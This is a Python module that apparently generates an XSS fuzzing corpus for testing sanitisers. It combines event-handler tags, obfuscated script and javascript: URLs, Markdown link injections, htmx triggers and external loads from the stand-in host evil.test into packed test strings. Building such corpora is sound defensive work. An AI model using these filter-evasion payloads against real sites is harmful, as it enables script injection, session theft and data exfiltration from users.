"""Texts that would run as a script, load something or send something away, wherever a text is taken for markup."""

from itertools import product

#: What a script would do; the page looks for each of them.
DO = "xss(1)"
TAGS = ("img src=x onerror={do}", "svg onload={do}", "body onload={do}", "input autofocus onfocus={do}",
        "select autofocus onfocus={do}", "textarea autofocus onfocus={do}", "video src=x onerror={do}",
        "audio src=x onerror={do}", "details open ontoggle={do}", "marquee onstart={do}", "object data=javascript:{do}",
        "iframe src=javascript:{do}", "iframe srcdoc='<script>parent.{do}</script>'", "embed src=javascript:{do}",
        "math><mi xlink:href=javascript:{do}", "svg><animate onbegin={do} attributeName=x dur=1s",
        "svg><script>{do}</script", "svg><a xlink:href=javascript:{do}><text>x</text></a",
        "svg><set attributeName=onmouseover to={do}", "style onload={do}", "link rel=stylesheet href=//evil.test/x.css",
        "base href=//evil.test/", "meta http-equiv=refresh content='0;url=javascript:{do}'",
        "meta http-equiv=refresh content='0;url=//evil.test/'", "form action=javascript:{do}><button>x</button></form",
        "form action=//evil.test/><input type=submit></form", "isindex action=javascript:{do} type=submit",
        "img src=//evil.test/x.png", "img srcset='//evil.test/x.png 2x'",
        "picture><source srcset=//evil.test/x></picture",
        "div style=background:url(//evil.test/x)", "div style='animation-name:x' onanimationstart={do}",
        "a href=javascript:{do}>x</a", "a href='java&#x09;script:{do}'>x</a", "a onmouseover={do}>x</a",
        "div hx-get=/codes/ hx-trigger=load", "div data-hx-get=//evil.test/ data-hx-trigger=load",
        "div hx-on:htmx:load={do}", "div hx-on::load={do}", "div hx-vals='js:{{x:{do}}}' hx-get=/ hx-trigger=load",
        "template><script>{do}</script></template", "noscript><p title='</noscript><img src=x onerror={do}>'",
        "xmp><img src=x onerror={do}></xmp", "plaintext onmouseover={do}", "keygen autofocus onfocus={do}",
        "button formaction=javascript:{do}>x</button", "table background=javascript:{do}",
        "bgsound src=javascript:{do}",
        "frameset onload={do}", "dialog open onfocusin={do} tabindex=0 autofocus")  # fmt: skip
#: How a tag is written so that a filter overlooks it.
WAYS = ("<{0}>", "</p><{0}>", '"><{0}>', "'><{0}>", "<{0}", "--><{0}><!--")
SCRIPTS = ("<script>{do}</script>", "<SCRIPT>{do}</SCRIPT>", "<ScRiPt >{do}</sCrIpT >", "<script/x>{do}</script>",
           "<<script>{do}//<</script>", "<script src=//evil.test/x.js></script>", "</title><script>{do}</script>",
           "</textarea><script>{do}</script>", "</style><script>{do}</script>", "</script><script>{do}</script>",
           "<scr<script>ipt>{do}</scr</script>ipt>", "<script\n>{do}</script>", "<!--<script>{do}</script>-->",
           "<![CDATA[<script>{do}</script>]]>", "<?xml?><script>{do}</script>", "&lt;script&gt;{do}&lt;/script&gt;",
           "&#60;script&#62;{do}&#60;/script&#62;", "\\u003cscript\\u003e{do}\\u003c/script\\u003e",
           "%3Cscript%3E{do}%3C/script%3E", "＜script＞{do}＜/script＞", "<script>\u2028{do}</script>",
           "{{{{ 7|add:7 }}}}", "{{% load x %}}", "${{{do}}}", "';{do};//", '";{do};//', "`;{do};//", "\\';{do};//",
           "</script><svg onload={do}>", "<style>@import '//evil.test/x.css';</style>",
           "<style>*{{background:url(//evil.test/x)}}</style>")  # fmt: skip
URLS = ("javascript:{do}", "JaVaScRiPt:{do}", " javascript:{do}", "java\tscript:{do}", "javascript&colon;{do}",
        "&#106;avascript:{do}", "&#x6A;avascript:{do}", "jav&#x0A;ascript:{do}", "javascript&#58;{do}", "vbscript:{do}",
        "data:text/html,<script>{do}</script>", "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=",
        "//evil.test/", "/\\evil.test/", "\\\\evil.test/", "file:///etc/passwd", "blob:x",
        "%6Aavascript:{do}")  # fmt: skip
#: How Markdown makes a link, a picture or a reference of an address.
LINKS = ("[x]({0})", "![x]({0})", "<{0}>", "[x](<{0}>)", "[x][r]\n\n[r]: {0}", "![x][r]\n\n[r]: {0}",
         "[x]({0} \"t\\\" onmouseover={do} x=\")",
         "[![x]({0})]({0})", "`[x]({0})`", "| a |\n|---|\n| [x]({0}) |")  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once."""
    made = [way.format(tag.format(do=DO)) for tag, way in product(TAGS, WAYS)]
    made += [script.format(do=DO) for script in SCRIPTS]
    made += [link.replace("{do}", DO).replace("{0}", url.format(do=DO)) for url, link in product(URLS, LINKS)]
    return list(dict.fromkeys(made))


def packed(texts: list[str], most: int) -> list[str]:
    """Several to a text, each text as long as a field takes; what is longer than that is left out."""
    made = [""]
    for text in texts:
        if len(text) > most:
            continue
        if len(made[-1]) + len(text) + 1 > most:
            made.append("")
        made[-1] = f"{made[-1]} {text}".strip()
    return made
